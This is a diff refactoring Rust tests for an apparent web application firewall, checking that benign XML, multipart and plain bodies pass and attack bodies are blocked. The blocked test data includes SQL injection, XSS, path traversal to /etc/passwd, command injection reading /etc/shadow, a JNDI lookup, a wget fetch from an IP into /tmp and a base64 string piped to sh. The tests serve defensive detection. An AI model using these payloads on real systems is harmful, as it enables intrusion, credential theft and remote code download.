@@ -696,6 +696,17 @@ fn body_request(content_type: &str, body: &str) -> Assessment {
     body_request_typed(Some(content_type), body)
 }
 
+/// Each of `passes` as a POST body of `content_type` (none: no header) is allowed, each of
+/// `blocks` blocked.
+fn bodies_both_ways<B: AsRef<str>>(content_type: Option<&str>, passes: &[B], blocks: &[B]) {
+    for (bodies, verdict) in [(passes, Verdict::Allow), (blocks, Verdict::Block)] {
+        for body in bodies {
+            let a = body_request_typed(content_type, body.as_ref());
+            assert_eq!(a.verdict, verdict, "{:?}: {a:?}", body.as_ref());
+        }
+    }
+}
+
 /// A POST of `body` with its length, and a Content-Type when one is given.
 fn body_request_typed(content_type: Option<&str>, body: &str) -> Assessment {
     let engine = Config::default().compile().unwrap();
@@ -718,31 +729,26 @@ fn body_request_typed(content_type: Option<&str>, body: &str) -> Assessment {
 /// upload's file name are blocked.
 #[test]
 fn xml_and_multipart_bodies() {
-    let xml = "application/xml";
-    for body in [
-        "<?xml version=\"1.0\"?><order id=\"42\"><item sku=\"A-1\" qty=\"2\">Coffee &amp; tea</item><note>Leave at the door; ring twice</note></order>",
-        "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Release notes</title><entry><content type=\"html\">&lt;p&gt;Fixed &lt;b&gt;bugs&lt;/b&gt;&lt;/p&gt;</content></entry></feed>",
-        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetUser><Name>O'Brien</Name></GetUser></soap:Body></soap:Envelope>",
-        "<config><path>/var/lib/app/data</path><query>select a plan</query></config>",
-    ] {
-        let a = body_request(xml, body);
-        assert_eq!(a.verdict, Verdict::Allow, "{body}: {a:?}");
-    }
-    for body in [
-        "<user><name>' UNION SELECT password FROM users--</name></user>",
-        "<comment><![CDATA[<script>alert(1)</script>]]></comment>",
-        "<file path=\"../../../../etc/passwd\"/>",
-        "<cmd>;cat /etc/shadow</cmd>",
-        "<a><b><c><d>${jndi:ldap://x.example/a}</d></c></b></a>",
-    ] {
-        let a = body_request(xml, body);
-        assert_eq!(a.verdict, Verdict::Block, "{body}: {a:?}");
-    }
-    let multipart = "multipart/form-data; boundary=XyZ";
+    bodies_both_ways(
+        Some("application/xml"),
+        &[
+            "<?xml version=\"1.0\"?><order id=\"42\"><item sku=\"A-1\" qty=\"2\">Coffee &amp; tea</item><note>Leave at the door; ring twice</note></order>",
+            "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Release notes</title><entry><content type=\"html\">&lt;p&gt;Fixed &lt;b&gt;bugs&lt;/b&gt;&lt;/p&gt;</content></entry></feed>",
+            "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetUser><Name>O'Brien</Name></GetUser></soap:Body></soap:Envelope>",
+            "<config><path>/var/lib/app/data</path><query>select a plan</query></config>",
+        ],
+        &[
+            "<user><name>' UNION SELECT password FROM users--</name></user>",
+            "<comment><![CDATA[<script>alert(1)</script>]]></comment>",
+            "<file path=\"../../../../etc/passwd\"/>",
+            "<cmd>;cat /etc/shadow</cmd>",
+            "<a><b><c><d>${jndi:ldap://x.example/a}</d></c></b></a>",
+        ],
+    );
     let part = |headers: &str, content: &str| {
         format!("--XyZ\r\n{headers}\r\n\r\n{content}\r\n--XyZ--\r\n")
     };
-    for body in [
+    let passes = [
         part(
             "Content-Disposition: form-data; name=\"bio\"",
             "I write SQL for a living; select is my favourite word.",
@@ -755,11 +761,8 @@ fn xml_and_multipart_bodies() {
             "Content-Disposition: form-data; name=\"doc\"; filename=\"résumé.pdf\"\r\nContent-Type: application/pdf",
             "%PDF-1.7",
         ),
-    ] {
-        let a = body_request(multipart, &body);
-        assert_eq!(a.verdict, Verdict::Allow, "{body}: {a:?}");
-    }
-    for body in [
+    ];
+    let blocks = [
         part(
             "Content-Disposition: form-data; name=\"bio\"",
             "x' or 1=1 -- ",
@@ -776,10 +779,8 @@ fn xml_and_multipart_bodies() {
             "Content-Disposition: form-data; name=\"comment\"",
             "<img src=x onerror=alert(1)>",
         ),
-    ] {
-        let a = body_request(multipart, &body);
-        assert_eq!(a.verdict, Verdict::Block, "{body}: {a:?}");
-    }
+    ];
+    bodies_both_ways(Some("multipart/form-data; boundary=XyZ"), &passes, &blocks);
 }
 
 /// The PL1 line drawn where CRS draws it, by grammar: a header injection needs a header
@@ -2452,28 +2453,27 @@ fn named_tags_and_remarks_versus_markup_and_calls() {
 /// so does a newline in a name of a declared form.
 #[test]
 fn undeclared_bodies_are_text_declared_forms_have_names() {
-    let post = body_request_typed;
-    for body in [
-        "build 4512 finished\n",
-        "status%3A%20green%0A",
-        "deploy ok\r\n",
-        "release notes: fixed the login page\n",
-    ] {
-        let a = post(None, body);
-        assert_eq!(a.verdict, Verdict::Allow, "{body:?}: {a:?}");
-    }
-    for body in [
-        "; wget http://203.0.113.9/k -O /tmp/k\n",
-        "{\"user\":\"x' or '7'='7\"}",
-        "[{\"cmd\":\"a;cat /etc/shadow\"}]",
-        "x%3Becho%20aWQ%3D%20%7C%20base64%20-d%20%7C%20sh%0A",
-        "<svg onload=alert(document.domain)>\n",
-    ] {
-        assert_eq!(post(None, body).verdict, Verdict::Block, "{body:?}");
-    }
-    let form = Some("application/x-www-form-urlencoded");
-    assert_eq!(post(form, "status%0A=green").verdict, Verdict::Block);
-    assert_eq!(post(form, "status=green%0A").verdict, Verdict::Allow);
+    bodies_both_ways(
+        None,
+        &[
+            "build 4512 finished\n",
+            "status%3A%20green%0A",
+            "deploy ok\r\n",
+            "release notes: fixed the login page\n",
+        ],
+        &[
+            "; wget http://203.0.113.9/k -O /tmp/k\n",
+            "{\"user\":\"x' or '7'='7\"}",
+            "[{\"cmd\":\"a;cat /etc/shadow\"}]",
+            "x%3Becho%20aWQ%3D%20%7C%20base64%20-d%20%7C%20sh%0A",
+            "<svg onload=alert(document.domain)>\n",
+        ],
+    );
+    bodies_both_ways(
+        Some("application/x-www-form-urlencoded"),
+        &["status=green%0A"],
+        &["status%0A=green"],
+    );
 }
 
 /// A word that starts with `#` begins a shell comment: `| sh #` runs `sh` and leaves the
